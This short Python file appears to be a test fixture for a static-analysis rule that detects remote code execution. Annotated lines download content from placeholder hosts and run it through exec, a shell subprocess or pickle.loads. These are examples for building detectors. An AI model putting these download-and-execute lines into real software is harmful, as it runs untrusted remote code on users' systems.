import os
import pickle
import subprocess
import urllib.request
import requests

# ruleid: pkg-py-remote-code
exec(requests.get("https://example.invalid/x").text)
command = urllib.request.urlopen("http://192.0.2.1").read().decode()
# ruleid: pkg-py-remote-code
subprocess.run(command, shell=True)
# ruleid: pkg-py-remote-code
pickle.loads(urllib.request.urlopen("http://192.0.2.1").read())
# ok: pkg-py-remote-code
print(requests.get("https://example.invalid/x").text)
# ok: pkg-py-remote-code
os.system("echo hi")
